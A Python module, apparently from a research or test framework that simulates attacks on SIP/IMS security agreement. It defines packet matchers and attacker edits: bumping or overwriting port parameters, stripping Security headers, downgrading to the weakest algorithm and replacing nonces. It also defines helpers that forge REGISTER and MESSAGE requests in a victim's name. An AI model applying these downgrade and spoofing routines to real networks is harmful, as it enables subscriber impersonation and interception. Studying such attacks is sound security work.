"""Messages that an attacker writes, and changes that it makes to others'."""

import re
from collections.abc import Callable, Mapping

from twopair.attack.moves import Edit, Match, Notes
from twopair.attack.sight import Forged, Sight
from twopair.attack.stage import VICTIM, Stage
from twopair.base import Endpoint
from twopair.core.secagree import Offer, Terms
from twopair.wire.sip import Credentials, Request, Response, make_request, make_response, parse

# which packets


def sm1(s: Sight) -> bool:
    """The victim's REGISTER in the clear."""
    return s.clear and s.sender == VICTIM and s.says("REGISTER")


def sm6(s: Sight) -> bool:
    """The challenge to it."""
    return s.clear and s.receiver == VICTIM and s.says("SIP/2.0 401")


def esp_up(s: Sight) -> bool:
    """ESP from the victim."""
    return not s.clear and s.sender == VICTIM


def clear(start: str, sender: str = VICTIM) -> Match:
    """Clear text of a host that begins like this."""
    return lambda s: s.clear and s.sender == sender and s.says(start)


def readable(start: str, sender: str = VICTIM) -> Match:
    """ESP without encryption, of a host, whose message begins like this."""
    return lambda s: not s.clear and s.sender == sender and s.says(start)


# changes


def bump(parameter: str, header: str = "Security") -> Edit:
    """Another number in every place of a parameter, with as many digits: 5064 becomes 5065.

    Args:
        parameter: its name, such as ``port-s``.
        header: how the names of the header fields begin in which it is changed.
    """
    line = re.compile(rf"^{header}[^\r]*".encode(), re.MULTILINE)
    number = re.compile(rf"\b({parameter}=\d*)(\d)(?=\D|$)".encode())

    def raised(found: re.Match[bytes]) -> bytes:
        return number.sub(lambda m: m[1] + b"%d" % ((int(m[2]) + 1) % 10), found[0])

    return lambda text, _notes: line.sub(raised, text)


def put(parameter: str, value: Callable[[Notes], str]) -> Edit:
    """A certain number in every place of a parameter."""
    pattern = re.compile(rf"\b{parameter}=\d+".encode())
    return lambda text, notes: pattern.sub(f"{parameter}={value(notes)}".encode(), text)


def then(*edits: Edit) -> Edit:
    """One change after the other."""

    def both(text: bytes, notes: Notes) -> bytes:
        for edit in edits:
            text = edit(text, notes)
        return text

    return both


def only_last(header: str) -> Edit:
    """A list of which only the last element is left: the weakest, in lists that begin with the best."""

    def cut(text: bytes, _notes: Notes) -> bytes:
        message = parse(text)
        message.set(header, message.values(header)[-1])
        return message.to_bytes()

    return cut


def without(*headers: str) -> Edit:
    """The message without these header fields."""

    def cut(text: bytes, _notes: Notes) -> bytes:
        message = parse(text)
        for header in headers:
            message.remove(header)
        return message.to_bytes()

    return cut


def nonce(value: Callable[[str, Notes], str]) -> Edit:
    """The challenge with another nonce, made from the one that was there."""

    def exchange(text: bytes, notes: Notes) -> bytes:
        return re.sub(rb'nonce="([^"]*)"', lambda m: f'nonce="{value(m[1].decode(), notes)}"'.encode(), text)

    return exchange


def read(text: bytes, parameter: str) -> str:
    """A parameter of a Security-* header field, as an attacker reads it off SM1 or SM6."""
    found = re.search(rf"\b{parameter}=(\d+)".encode(), text)
    assert found is not None, f"no {parameter} to be read"
    return found[1].decode()


def nonce_of(sight: Sight) -> str:
    """The nonce of a challenge."""
    found = re.search(rb'nonce="([^"]+)"', sight.text)
    assert found is not None, "no nonce to be read"
    return found[1].decode()


# forgeries


def register(
    stage: Stage,
    number: int,
    src: Endpoint,
    terms: Terms,
    *,
    tag: str = "x",
    changes: Mapping[str, str] | None = None,
    credentials: Mapping[str, str] | None = None,
) -> Forged:
    """REGISTER in the clear with the identities of UE `number`, from anywhere.

    Args:
        stage: where.
        number: whose identities.
        src: claimed source.
        terms: SPIs and ports offered.
        tag: distinguishes it from others: part of branch, tag and Call-ID.
        changes: header fields that differ.
        credentials: parameters of Authorization that differ.
    """
    card, plan = stage.card(number), stage.plan
    me, home = card.impus[0], f"sip:{card.domain}"
    fields = {"username": card.impi, "realm": card.domain, "uri": home, "nonce": "", "response": ""}
    headers = {
        "Via": f"SIP/2.0/UDP {src};branch=z9hG4bK{tag};rport",
        "Max-Forwards": "70",
        "From": f"<{me}>;tag={tag}",
        "To": f"<{me}>",
        "Call-ID": f"{tag}@attacker",
        "CSeq": "1 REGISTER",
        "Contact": f"<sip:mallory@{src._replace(port=terms.port_s)}>",
        "Expires": "600000",
        "Authorization": str(Credentials.make({**fields, **(credentials or {})})),
        "Require": "sec-agree",
        "Proxy-Require": "sec-agree",
        "Supported": "path",
        "Security-Client": Offer.make(terms, plan.pcscf.algorithms).lines[0],
        **(changes or {}),
    }
    data = make_request("REGISTER", home, headers.items()).to_bytes()
    return Forged(src, Endpoint(plan.network.pcscf, plan.pcscf.gm_port), data)


def message(stage: Stage, src: Endpoint, dst: Endpoint, *, verify: str, words: str) -> Forged:
    """MESSAGE in the clear in the victim's name to UE 2."""
    me, to = stage.impu(1), stage.impu(2)
    headers = [
        ("Via", f"SIP/2.0/UDP {src};branch=z9hG4bKforged"),
        ("Max-Forwards", "70"),
        ("From", f"<{me}>;tag=forged"),
        ("To", f"<{to}>"),
        ("Call-ID", "forged@attacker"),
        ("CSeq", "1 MESSAGE"),
        ("Require", "sec-agree"),
        ("Proxy-Require", "sec-agree"),
        ("Security-Verify", verify),
        ("Content-Type", "text/plain"),
    ]
    return Forged(src, dst, make_request("MESSAGE", to, headers, words.encode()).to_bytes())


def answer(text: bytes, status: int, **headers: str) -> bytes:
    """An answer to a request that was read."""
    request = parse(text)
    assert isinstance(request, Request), "a request is answered"
    extra = [(name.replace("_", "-"), value) for name, value in headers.items()]
    return make_response(request, status, to_tag="forged", headers=extra).to_bytes()


def header(sight: Sight, name: str) -> str:
    """The first value of a header field of a message that was seen."""
    found: Request | Response = parse(sight.text)
    return found.get(name) or ""
